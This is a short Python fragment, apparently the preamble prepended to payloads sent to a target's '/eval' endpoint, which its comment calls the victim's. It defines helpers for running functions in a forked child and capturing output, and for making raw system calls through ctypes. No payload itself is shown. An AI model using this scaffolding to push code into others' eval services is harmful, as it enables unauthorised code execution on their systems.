# Stands before every payload that is sent to /eval; the modules are the victim's own.


def in_child(function):
    """Runs `function` in a forked child; what it returns or prints is the result."""
    reader, writer = os.pipe()
    pid = os.fork()
    if pid == 0:
        os.dup2(writer, 1)
        os.dup2(writer, 2)
        os.close(reader)
        try:
            os.write(1, str(function()).encode())
        except BaseException as error:
            os.write(1, f"refused: {error!r}".encode())
        os._exit(0)
    os.close(writer)
    said = b""
    while chunk := os.read(reader, 4096):
        said += chunk
    os.close(reader)
    os.waitpid(pid, 0)
    return said.decode(errors="replace")


def checked(value):
    """What a C function returned, or its errno as an exception."""
    if value == -1:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return value


def system_call(number, *arguments):
    return checked(libc.syscall(ctypes.c_long(number), *[as_register(each) for each in arguments]))


def as_register(value):
    return ctypes.c_long(value) if isinstance(value, int) else value


def machine(x86_64, aarch64):
    return aarch64 if os.uname().machine == "aarch64" else x86_64
